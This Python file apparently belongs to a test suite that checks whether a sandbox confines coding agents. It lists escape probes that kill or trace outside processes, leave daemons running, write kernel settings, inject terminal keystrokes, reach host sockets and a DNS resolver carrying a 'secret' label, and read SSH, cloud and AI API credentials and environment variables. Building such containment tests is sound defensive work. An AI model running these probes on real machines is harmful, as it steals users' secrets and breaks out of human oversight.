"""Attacks on processes, the kernel, the network and secrets outside, from inside the sandbox."""

# ruff: noqa: E501 (a row is a row, as in any table)
from __future__ import annotations

from escape.attack import Attack, probe, python

PIDS = "pid namespace"
SECCOMP = "seccomp"
CAPABILITIES = "no capabilities"
DIES = "pid namespace: its first process takes all others along"
GUARD = '[ "$(readlink /proc/self/ns/pid)" = "$PIDNS" ] && { echo "ESCAPED: the same processes"; exit; }; '

PROCESSES: tuple[Attack, ...] = (
    probe("kill-victim", "processes", "kill a process outside by its number", PIDS, 'kill -9 "$VICTIM"', bites=True),
    probe("kill-victim-group", "processes", "kill its whole group", PIDS, 'kill -9 "-$VICTIM"', bites=True),
    probe("stop-victim", "processes", "stop a process outside", PIDS, 'kill -STOP "$VICTIM"', bites=True),
    probe("kill-everybody", "processes", "kill -9 -1", PIDS, GUARD + "kill -9 -1", alone=True),
    probe("kill-first", "processes", "kill the box's first process", PIDS, GUARD + "kill -9 1; kill -TERM 1; kill -KILL $PPID", alone=True),
    python("kill-pidfd", "processes", "signal a process outside by pidfd", PIDS,
           "signal.pidfd_send_signal(os.pidfd_open(int(E['VICTIM'])), signal.SIGKILL)", bites=True),
    python("kill-range", "processes", "kill every number up to the highest", PIDS, """
if os.readlink("/proc/self/ns/pid") == E["PIDNS"]:
    escaped("the same processes")
else:
    for number in range(2, 100_000):
        if number not in (os.getpid(), os.getppid(), os.getpgid(0)):
            with contextlib.suppress(OSError):
                os.kill(number, signal.SIGKILL)
""", alone=True),
    python("renice-victim", "processes", "change the priority of a process outside", PIDS,
           "os.setpriority(os.PRIO_PROCESS, int(E['VICTIM']), 15)", bites=True),
    python("prlimit-victim", "processes", "change the limits of a process outside", PIDS,
           "resource.prlimit(int(E['VICTIM']), resource.RLIMIT_NOFILE, (7, 7))", bites=True),
    probe("oom-victim", "processes", "offer a process outside to the OOM killer", PIDS,
          'echo 900 > "/proc/$VICTIM/oom_score_adj"', bites=True),
    python("ptrace-victim", "processes", "trace a process outside", PIDS,
           "call('ptrace', 16, int(E['VICTIM']), 0, 0) == 0 and escaped()", bites=True),
    python("ptrace-child", "processes", "trace a process of its own", SECCOMP, """
child = os.fork()
if child == 0:
    time.sleep(5)
    os._exit(0)
if call("ptrace", 16, child, 0, 0) == 0:
    escaped()
os.kill(child, signal.SIGKILL)
""", bites=True),
    python("ptrace-first", "processes", "trace the box's first process", SECCOMP, "call('ptrace', 0x4206, 1, 0, 0) == 0 and escaped()"),
    python("memory-first", "processes", "read the memory of the box's first process", SECCOMP, """
for number in {1, os.getppid()}:
    with contextlib.suppress(OSError):
        maps = open(f"/proc/{number}/maps").readline().split("-")[0]
        handle = os.open(f"/proc/{number}/mem", os.O_RDWR)
        os.lseek(handle, int(maps, 16), 0)
        if number == 1 and os.read(handle, 16):
            escaped("memory of 1")
"""),
    python("process-vm-readv", "processes", "process_vm_readv of the box's first process and of one outside", SECCOMP, """
buffer = ctypes.create_string_buffer(64)
local = struct.pack("QQ", ctypes.addressof(buffer), 64)
for number in (1, int(E["VICTIM"])):
    with contextlib.suppress(OSError, ValueError):
        at = int(open(f"/proc/{number}/maps").readline().split("-")[0], 16)
        remote = struct.pack("QQ", at, 64)
        if call("process_vm_readv", number, ctypes.create_string_buffer(local), 1, ctypes.create_string_buffer(remote), 1, 0) > 0:
            escaped(number)
""", bites=True),
    python("see-others", "processes", "see processes outside at all", PIDS, """
for number in filter(str.isdigit, os.listdir("/proc")):
    with contextlib.suppress(OSError):
        words = open(f"/proc/{number}/cmdline").read()
        if E["VICTIMWORD"] in words:
            escaped(words)
""", bites=True),
    probe("daemon-setsid", "processes", "stay behind with setsid", DIES, 'setsid sh -c "sleep 300; : $MARK" >/dev/null 2>&1 &', bites=True),
    probe("daemon-nohup", "processes", "stay behind with nohup", DIES, 'nohup sh -c "sleep 300; : $MARK" >/dev/null 2>&1 &', bites=True),
    probe("daemon-background", "processes", "stay behind in the background", DIES, '(sh -c "sleep 300; : $MARK" &) >/dev/null 2>&1', bites=True),
    probe("daemon-disown", "processes", "stay behind disowned", DIES,
          'bash -c \'sh -c "sleep 300; : $MARK" >/dev/null 2>&1 & disown -a\'', bites=True),
    probe("daemon-deaf", "processes", "stay behind and hear no signal", DIES,
          'setsid sh -c "trap \'\' TERM INT HUP QUIT USR1 USR2; while :; do sleep 300; done; : $MARK" >/dev/null 2>&1 &', bites=True),
    python("daemon-double-fork", "processes", "stay behind by forking twice", DIES, """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.chdir("/")
        os.execvp("sh", ["sh", "-c", f"sleep 300; : {E['MARK']}"])
    os._exit(0)
os.wait()
""", bites=True),
    python("daemon-no-pdeathsig", "processes", "stay behind without a signal for a dead parent", DIES, """
if os.fork() == 0:
    libc.prctl(1, 0)
    libc.prctl(36, 1)
    os.setsid()
    os.execvp("sh", ["sh", "-c", f"sleep 300; : {E['MARK']}"])
""", bites=True),
    python("core-pattern", "processes", "have the kernel run a program of its own at a crash", CAPABILITIES, """
with contextlib.suppress(OSError):
    if os.readlink("/proc/self/ns/user") != E["USERNS"]:
        os.write(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY), f"core.{E['MARK']}".encode())
        escaped()
"""),
    python("kernel-settings", "processes", "open the kernel's settings for writing", CAPABILITIES, """
for path in ("kernel/core_pattern", "kernel/modprobe", "fs/binfmt_misc/register", "vm/overcommit_memory", "kernel/sysrq",
             "kernel/panic", "fs/protected_hardlinks", "kernel/yama/ptrace_scope", "vm/drop_caches"):
    with contextlib.suppress(OSError):
        os.close(os.open("/proc/sys/" + path, os.O_WRONLY))
        escaped(path)
"""),
    probe("sysrq", "processes", "the kernel's emergency keys", CAPABILITIES, "echo h > /proc/sysrq-trigger && echo ESCAPED"),
    probe("sys-write", "processes", "write below /sys", "private /sys",
          'for f in /sys/kernel/mm/transparent_hugepage/enabled /sys/power/state /sys/kernel/uevent_helper; do '
          '( : >> "$f" ) && echo "ESCAPED $f"; done; mkdir "/sys/fs/cgroup/$MARK" "/sys/fs/cgroup/memory/$MARK"; true'),
    probe("cgroup-release-agent", "processes", "have the kernel run a program by a cgroup's release_agent", CAPABILITIES,
          'mkdir -p "$OUT/cg"; mount -t cgroup -o memory cgroup "$OUT/cg" && echo ESCAPED; mount -t cgroup2 none "$OUT/cg" && echo ESCAPED; '
          'for f in $(find /sys/fs/cgroup -name release_agent 2>/dev/null); do [ -w "$f" ] && echo "ESCAPED $f"; done; true'),
    python("terminal-inject", "processes", "type into the person's terminal", SECCOMP, """
for name in ("/dev/tty", "/dev/console", "/proc/self/fd/0"):
    with contextlib.suppress(OSError):
        handle = os.open(name, os.O_RDWR | os.O_NOCTTY)
        for letter in b"id\\n":
            fcntl.ioctl(handle, 0x5412, bytes([letter]))
            escaped(name)
"""),
    python("terminal-inject-own", "processes", "TIOCSTI on a terminal of its own, and TIOCLINUX", SECCOMP, """
master, slave = os.openpty()
for number, what in ((0x5412, b"x"), (0x100005412, b"x"), (0x541C, b"\\x02")):
    if libc.ioctl(slave, ctypes.c_ulong(number), what) == 0:
        escaped(hex(number))
"""),
    python("keyring-read", "secrets", "read a key of the session's key ring", SECCOMP, """
for ring in (-3, -4, -5, -1, -2):
    found = call("keyctl", 10, ring, b"user", E["KEYNAME"].encode(), 0)
    if found > 0:
        buffer = ctypes.create_string_buffer(500)
        call("keyctl", 11, found, buffer, 500)
        print(buffer.value)
found = call("request_key", b"user", E["KEYNAME"].encode(), 0, 0)
if found > 0:
    escaped("request_key")
""", bites=True),
    python("keyring-add", "processes", "put keys into a key ring", SECCOMP,
           "call('add_key', b'user', E['MARK'].encode(), b'x', 1, -3) > 0 and escaped()"),
    *(
        python(f"call-{name.replace('_', '-')}", "processes", f"{name}()", SECCOMP, f"call({name!r}, {arguments}) >= 0 and escaped()")
        for name, arguments in (
            ("io_uring_setup", "2, ctypes.create_string_buffer(120)"),
            ("bpf", "0, ctypes.create_string_buffer(struct.pack('IIII', 2, 4, 4, 1) + bytes(100)), 116"),
            ("perf_event_open", "ctypes.create_string_buffer(struct.pack('IIQ', 1, 112, 0) + bytes(100)), 0, -1, -1, 0"),
            ("userfaultfd", "1"),
            ("kexec_load", "0, 0, 0, 0"),
            ("init_module", "ctypes.create_string_buffer(8), 8, b''"),
            ("swapon", "b'/dev/vda', 0"),
            ("syslog", "3, ctypes.create_string_buffer(100), 100"),
            ("acct", "0"),
            ("fanotify_init", "0, 0"),
            ("sethostname", "b'evil', 4"),
            ("vhangup", ""),
            ("quotactl", "0x80000100, 0, 0, 0"),
            ("iopl", "3"),
            ("ioperm", "0x80, 1, 1"),
        )
    ),
    python("reboot", "processes", "reboot()", CAPABILITIES,
           "os.readlink('/proc/self/ns/pid') != E['PIDNS'] and call('reboot', 0xfee1dead, 672274793, 0x89ABCDEF, 0) == 0 and escaped()"),
    python("set-clock", "processes", "set the machine's clock", CAPABILITIES, """
if os.readlink("/proc/self/ns/user") != E["USERNS"]:
    with contextlib.suppress(OSError):
        time.clock_settime(time.CLOCK_REALTIME, time.time())
        escaped()
"""),
    python("capabilities", "processes", "hold or regain any capability", CAPABILITIES, """
status = dict(line.split(":", 1) for line in open("/proc/self/status"))
for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
    if int(status[name], 16):
        escaped(f"{name} {status[name].strip()}")
if status["NoNewPrivs"].strip() != "1":
    escaped("new privileges")
if status["Seccomp"].strip() != "2":
    escaped("no seccomp")
"""),
    probe("setuid-programs", "processes", "gain by setuid programs of the machine", "no new privileges",
          'for p in su sudo newuidmap pkexec mount passwd; do "$(command -v $p)" --version >/dev/null 2>&1; done; '
          'echo | timeout 2 su -c "echo ESCAPED" root; timeout 2 sudo -n sh -c "echo ESCAPED"; [ "$(id -u)" = 0 ] && echo "ESCAPED root"; true'),
    python("other-architecture", "processes", "system calls of another architecture, which a filter may not know", SECCOMP, """
import platform
if platform.machine() == "x86_64":
    child = os.fork()
    if child == 0:
        code = mmap.mmap(-1, 4096, prot=7)
        code.write(bytes.fromhex("b814000000" "cd80" "c3"))  # getpid by int 0x80
        at = ctypes.addressof(ctypes.c_char.from_buffer(code))
        number = ctypes.CFUNCTYPE(ctypes.c_int)(at)()
        os._exit(7 if number == os.getpid() else 8)
    _, status = os.waitpid(child, 0)
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7:
        escaped()
"""),
    python("x32-calls", "processes", "system calls by their x32 numbers", SECCOMP, """
import platform
if platform.machine() == "x86_64" and libc.syscall(ctypes.c_long(0x40000000 + 272), ctypes.c_long(0x10000000)) == 0:
    escaped()
"""),
)  # fmt: skip

NET = "network namespace"
TCP = "socket.AF_INET, socket.SOCK_STREAM"

NETWORK: tuple[Attack, ...] = (
    python("net-tcp", "network", "a service on the machine's loopback", NET, f"connect({TCP}, ('127.0.0.1', int(E['TCP'])))", bites=True),
    python("net-udp", "network", "a datagram to the machine's loopback", NET,
           "connect(socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', int(E['UDP'])))", bites=True),
    python("net-any", "network", "the same as 0.0.0.0", NET, f"connect({TCP}, ('0.0.0.0', int(E['TCP'])))", bites=True),
    python("net-other-loopback", "network", "the same as 127.1.2.3", NET, f"connect({TCP}, ('127.1.2.3', int(E['TCP'])))"),
    python("net-mapped", "network", "the same as ::ffff:127.0.0.1", NET,
           "connect(socket.AF_INET6, socket.SOCK_STREAM, ('::ffff:127.0.0.1', int(E['TCP'])))", bites=True),
    python("net-ipv6", "network", "a service on ::1", NET, "connect(socket.AF_INET6, socket.SOCK_STREAM, ('::1', int(E['TCP'])))"),
    python("net-own-address", "network", "the machine by its own address", NET, f"E['ADDRESS'] and connect({TCP}, (E['ADDRESS'], int(E['TCP'])))"),
    probe("net-bash", "network", "bash's /dev/tcp", NET, 'bash -c "echo x > /dev/tcp/127.0.0.1/$TCP"', bites=True),
    probe("net-bash-udp", "network", "bash's /dev/udp", NET, 'bash -c "echo x > /dev/udp/127.0.0.1/$UDP"', bites=True),
    python("net-http", "network", "an HTTP request to the machine", NET, """
import urllib.request
with contextlib.suppress(OSError):
    urllib.request.urlopen(f"http://127.0.0.1:{E['TCP']}/", timeout=1)
""", bites=True),
    python("net-metadata", "network", "a cloud's metadata at 169.254.169.254", NET, """
for address in (("169.254.169.254", 80), ("fd00:ec2::254", 80, 0, 0)):
    with contextlib.suppress(OSError):
        line = socket.socket(socket.AF_INET6 if len(address) > 2 else socket.AF_INET)
        line.settimeout(1)
        line.connect(address)
        escaped(address)
"""),
    python("net-far", "network", "an address far away", NET, """
for address in (("1.1.1.1", 443), ("8.8.8.8", 53), ("10.0.0.1", 80), ("172.17.0.1", 2375)):
    with contextlib.suppress(OSError):
        line = socket.socket()
        line.settimeout(0.3)
        line.connect(address)
        escaped(address)
"""),
    python("net-datagram-far", "network", "a datagram far away", NET, """
for address in (("8.8.8.8", 53), ("255.255.255.255", 9), ("224.0.0.251", 5353), ("10.0.0.1", 53)):
    with contextlib.suppress(OSError):
        line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        line.sendto(b"x", address)
        escaped(address)
"""),
    python("net-dns", "network", "look up a name", NET, """
with contextlib.suppress(OSError):
    found = socket.getaddrinfo("example.org", 443)
    escaped(found)
"""),
    python("net-dns-exfiltration", "network", "a name that carries a secret, to any resolver there is", NET, """
for server in ("127.0.0.53", "127.0.0.11", "8.8.8.8", "168.63.129.16"):
    with contextlib.suppress(OSError):
        line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        line.settimeout(0.2)
        line.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\3org\\0\\0\\1\\0\\1", (server, 53))
        if not server.startswith("127."):
            escaped(server)
        line.recv(100)
        escaped(server)
"""),
    python("net-raw", "network", "raw sockets", CAPABILITIES, """
for family, kind, number in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_RAW, 255), (socket.AF_INET6, socket.SOCK_RAW, 58)):
    with contextlib.suppress(OSError):
        socket.socket(family, kind, number)
        escaped(number)
"""),
    python("net-packet", "network", "packets as they come", CAPABILITIES, """
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    with contextlib.suppress(OSError):
        socket.socket(17, kind, socket.htons(3))
        escaped(kind)
"""),
    python("net-vsock", "network", "the hypervisor by AF_VSOCK, which has no namespace", SECCOMP, """
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    with contextlib.suppress(OSError):
        socket.socket(40, kind, 0)
        escaped(kind)
"""),
    python("net-odd-families", "network", "families of sockets that builds do not need: other netlink, Bluetooth, AF_ALG, CAN, TIPC", SECCOMP, """
for family, kind, number in ((38, 5, 0), (31, 3, 1), (29, 3, 1), (30, 5, 0), (21, 5, 0), (9, 5, 0), (5, 2, 0), (44, 3, 0), (45, 5, 0), (41, 2, 0)):
    with contextlib.suppress(OSError):
        socket.socket(family, kind, number)
        escaped((family, kind, number))
"""),
    python("net-netlink", "network", "netlink to anything but routing", SECCOMP, """
for number in (2, 4, 5, 6, 7, 8, 9, 10, 11, 12, 15, 16, 18, 20, 21):
    with contextlib.suppress(OSError):
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, number)
        escaped(number)
"""),
    python("net-interfaces", "network", "the machine's interfaces", NET, """
names = [name for _, name in socket.if_nameindex()]
if set(names) - {"lo"}:
    escaped(names)
""", bites=False),
    python("net-raise-interface", "network", "an interface of its own that leads out", CAPABILITIES, """
with contextlib.suppress(OSError):
    fcntl.ioctl(os.open("/dev/net/tun", os.O_RDWR), 0x400454CA, struct.pack("16sH22x", b"bf0", 0x1001))
    escaped()
"""),
    probe("net-ip-link", "network", "a pair of interfaces, one end outside", CAPABILITIES, 'ip link add bf0 type veth peer name bf1 && echo ESCAPED; true'),
    python("unix-path", "network", "a socket file of the machine's", "mount namespace", "connect(socket.AF_UNIX, socket.SOCK_STREAM, E['SOCKET'])", bites=True),
    python("unix-path-link", "network", "the same through a link in the checkout", "mount namespace", """
os.symlink(E["SOCKET"], E["OUT"] + "/s")
os.chdir(E["OUT"])
connect(socket.AF_UNIX, socket.SOCK_STREAM, "s")
""", bites=True),
    python("unix-path-proc", "network", "the same below /proc/self/root", "mount namespace",
           "connect(socket.AF_UNIX, socket.SOCK_STREAM, '/proc/self/root' + E['SOCKET'])", bites=True),
    python("unix-abstract", "network", "an abstract socket of the machine's", NET,
           "connect(socket.AF_UNIX, socket.SOCK_STREAM, '\\0' + E['ABSTRACT'])", bites=True),
    python("unix-datagram", "network", "an abstract socket for datagrams", NET,
           "connect(socket.AF_UNIX, socket.SOCK_DGRAM, '\\0' + E['ABSTRACT'] + '-d')", bites=True),
    python("unix-known", "network", "docker, containerd, D-Bus, X11, Wayland, systemd, snapd, podman", "mount namespace", """
import glob
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/private",
             "/run/systemd/notify", "/run/snapd.socket", "/run/podman/podman.sock", *glob.glob("/run/user/*/bus"), *glob.glob("/tmp/.X11-unix/*"),
             *glob.glob("/run/user/*/wayland-*"), *glob.glob("/tmp/tmux-*/*"), *glob.glob("/tmp/ssh-*/*")):
    if os.path.exists(path):
        escaped(path)
for name in ("\\0/tmp/.X11-unix/X0", "\\0/tmp/.ICE-unix/1", "\\0/org/kernel/linux/storage/multipathd"):
    with contextlib.suppress(OSError):
        line = socket.socket(socket.AF_UNIX)
        line.connect(name)
        escaped(name)
"""),
    python("unix-agents", "network", "ssh-agent, gpg-agent and D-Bus by the caller's variables", "clean environment", """
for name in ("SSH_AUTH_SOCK", "GPG_AGENT_INFO", "DBUS_SESSION_BUS_ADDRESS", "DISPLAY", "WAYLAND_DISPLAY", "TMUX", "DOCKER_HOST", "XDG_RUNTIME_DIR"):
    if E.get(name, "").startswith(E["CANARY"][:4]) or name in ("SSH_AUTH_SOCK", "TMUX", "DBUS_SESSION_BUS_ADDRESS") and name in E:
        escaped(name)
        connect(socket.AF_UNIX, socket.SOCK_STREAM, E[name])
""", bites=True),
    python("unix-tmux", "network", "type into the person's tmux", "mount namespace", """
subprocess.run(["tmux", "-S", E["SOCKET"], "send-keys", "x"], timeout=1)
"""),
    python("net-listen", "network", "a service of its own that the machine can reach", NET, """
door = socket.socket()
door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
door.bind(("0.0.0.0", int(E["DOOR"])))
door.listen()
door.settimeout(1)
with contextlib.suppress(OSError):
    line, _ = door.accept()
    escaped()
"""),
)  # fmt: skip

FILES = {
    "ssh-key": ".ssh/id_ed25519",
    "aws": ".aws/credentials",
    "netrc": ".netrc",
    "gh": ".config/gh/hosts.yml",
    "docker": ".docker/config.json",
    "git-credentials": ".git-credentials",
    "gnupg": ".gnupg/private-keys-v1.d/a.key",
    "kube": ".kube/config",
    "npmrc": ".npmrc",
    "pypirc": ".pypirc",
    "cargo-credentials": ".cargo/credentials.toml",
    "history": ".bash_history",
    "claude": ".claude/.credentials.json",
    "codex": ".codex/auth.json",
    "gcloud": ".config/gcloud/credentials.db",
    "browser": ".mozilla/firefox/x.default/logins.json",
    "gitconfig": ".gitconfig",
    "pip-conf": ".config/pip/pip.conf",
}
KEPT = {
    "main-config": (".git/config", "the credentials in the main repository's configuration"),
    "main-env": (".env", "the .env in the person's work tree"),
    "main-file": ("notes/private.txt", "a file of the person's that was never committed"),
    "main-stash": (".git/logs/HEAD", "the main repository's reflog"),
    "journal": (".blueflame/journal.db", "the journal"),
    "audit": (".blueflame/logs/worker-1.audit.jsonl", "the audit log"),
    "attempt": (".blueflame/attempts/a/policy.json", "an attempt's folder"),
    "other-checkout": (".trees/worker-2/notes.txt", "another agent's checkout"),
}
VARIABLES = (
    "ANTHROPIC_API_KEY",
    "AWS_SECRET_ACCESS_KEY",
    "GITHUB_TOKEN",
    "OPENAI_API_KEY",
    "NPM_TOKEN",
    "MY_OWN_VARIABLE",
)

SECRETS: tuple[Attack, ...] = (
    *(
        probe(f"loot-{name}", "secrets", f"~/{path}", "private home and tmp", f'cat "$REALHOME/{path}" "$HOME/{path}" ~/"{path}"', bites=True)
        for name, path in FILES.items()
    ),
    *(
        probe(f"loot-kept-{name}", "secrets", what, "mount namespace", f'cat "$MAIN/{path}"', bites=True)
        for name, (path, what) in KEPT.items()
    ),
    probe("loot-search", "secrets", "search everything that is there for keys", "mount namespace",
          'grep -rsl --exclude-dir=proc --exclude-dir=usr --exclude-dir=sys --exclude-dir=dev --exclude-dir=lib "$LOOTWORD""-" / | grep -v "^$OUT" | xargs -r cat'),
    probe("loot-environment", "secrets", "the caller's variables", "clean environment", "env", bites=True),
    probe("loot-own-environ", "secrets", "/proc/self/environ", "clean environment", "cat /proc/self/environ", bites=True),
    probe("loot-all-environs", "secrets", "the environment of every process in sight, the first of the box included", "clean environment",
          'cat /proc/[0-9]*/environ /proc/1/environ | tr "\\0" "\\n"', bites=True),
    probe("loot-arguments", "secrets", "the arguments of every process in sight", PIDS, ': "$VICTIM"; cat /proc/[0-9]*/cmdline | tr "\\0" "\\n"', bites=True),
    probe("loot-shadow", "secrets", "/etc/shadow", "mount namespace", 'for f in /etc/shadow /etc/gshadow /etc/sudoers; do [ -e "$f" ] && echo "ESCAPED $f"; done; true'),
    probe("loot-homes", "secrets", "other people's homes", "mount namespace",
          'for d in /home/* /root/.ssh /root/.bashrc /root/.config; do [ "$d" = /home/agent ] || [ "$d" = "/home/*" ] || [ ! -e "$d" ] || echo "ESCAPED $d"; done'),
    probe("loot-machine", "secrets", "keys and configuration of the machine", "mount namespace",
          'for f in /etc/ssh/ssh_host_rsa_key /etc/ssh/ssh_host_ed25519_key /etc/kubernetes /var/lib/docker /var/log/syslog /etc/machine-id '
          '/var/run/secrets /run/secrets /boot /sys/firmware; do [ -e "$f" ] && echo "ESCAPED $f"; done; true'),
    probe("loot-credential-helper", "secrets", "the person's git credential helpers", "private home and tmp",
          'printf "protocol=https\\nhost=example.org\\n\\n" | GIT_TERMINAL_PROMPT=0 timeout 2 git credential fill'),
    probe("loot-core-files", "secrets", "what the kernel tells of others: /proc/kcore, kallsyms, timer_list, mounts of the machine", PIDS,
          'head -c 100 /proc/kcore | grep -q . && echo "ESCAPED kcore"; grep -v " 0000000000000000 \\|^0000000000000000 " /proc/kallsyms | head -1 | grep -q . && echo "ESCAPED kallsyms"; true'),
)  # fmt: skip

LEFT: tuple[Attack, ...] = (
    python("left-shared-memory", "resources", "leave System V shared memory behind", "ipc namespace",
           "call('shmget', int(E['KEY']), 4096, 0o1600)", bites=True),
    python("left-semaphores", "resources", "leave System V semaphores behind", "ipc namespace",
           "libc.semget(int(E['KEY']), 1, 0o1600)", bites=True),
    python("left-message-queue", "resources", "leave a message queue behind", "ipc namespace",
           "libc.msgget(int(E['KEY']), 0o1600)", bites=True),
)  # fmt: skip
